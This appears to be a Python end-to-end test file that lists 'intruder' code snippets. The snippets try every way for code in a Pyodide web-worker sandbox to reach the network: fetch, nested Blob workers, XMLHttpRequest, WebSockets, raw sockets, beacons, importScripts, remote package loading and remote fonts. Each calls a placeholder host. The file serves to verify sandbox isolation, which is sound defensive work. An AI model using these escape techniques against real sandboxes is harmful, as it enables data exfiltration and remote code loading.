"""Every way to the network."""

from e2e.intruders import at_import, in_an_act, in_its_board, together

_TRIES = """
import js
def tried(action):
    try:
        action()
    except BaseException:
        pass
"""

WAYS = {
    "fetch": at_import("fetches from elsewhere", f"{_TRIES}\ntried(lambda: js.fetch('WORLD/fetch'))"),
    "fetch by another realm": at_import(
        "fetches with a worker's own function, which nobody has put away",
        f"""{_TRIES}
code = "fetch('WORLD/nested').catch(() => {{}}); new WebSocket('WORLD'.replace('http', 'ws'))"
def nested():
    blob = js.Blob.new([code])
    js.Worker.new(js.URL.createObjectURL(blob))
tried(nested)
""",
    ),
    "request": at_import(
        "asks with XMLHttpRequest, waiting",
        f"""{_TRIES}
def ask():
    request = js.XMLHttpRequest.new()
    request.open('GET', 'WORLD/xhr', False)
    request.send()
tried(ask)
""",
    ),
    "socket": at_import(
        "opens sockets of three kinds",
        f"""{_TRIES}
import socket
tried(lambda: js.WebSocket.new('WORLD'.replace('http', 'ws')))
tried(lambda: js.EventSource.new('WORLD/events'))
host, port = 'WORLD'.removeprefix('http://').split(':')
tried(lambda: socket.create_connection((host, int(port)), timeout=1))
""",
    ),
    "beacon": at_import("sends a beacon", f"{_TRIES}\ntried(lambda: js.navigator.sendBeacon('WORLD/beacon', 'x'))"),
    "scripts": at_import(
        "imports scripts from elsewhere, by both ways of a worker",
        f"""{_TRIES}
tried(lambda: js.importScripts('WORLD/script.js'))
tried(lambda: js.WorkerGlobalScope.prototype.importScripts('WORLD/script.js'))
tried(lambda: js.eval("import('WORLD/module.js')"))
""",
    ),
    "pyodide": in_its_board(
        "asks Pyodide to load a package from elsewhere",
        f"""{_TRIES}
import pyodide_js
tried(lambda: pyodide_js.loadPackage('WORLD/x-1.0-py3-none-any.whl'))
import pyodide.code
tried(lambda: pyodide.code.run_js("fetch('WORLD/js')"))
""",
    ),
    "later": in_an_act(
        "fetches whenever a move is made", "import js; js.setTimeout(js.fetch.bind(js, 'WORLD/act'), 0)"
    ),
    "picture": at_import(
        "lets a picture and a font come from elsewhere",
        f"""{_TRIES}
tried(lambda: js.createImageBitmap(js.Blob.new([])))
tried(lambda: js.FontFace.new('x', 'url(WORLD/font)').load())
""",
    ),
}

INTRUDERS = {"every way": together("reaches out in every way at once", WAYS.values())}
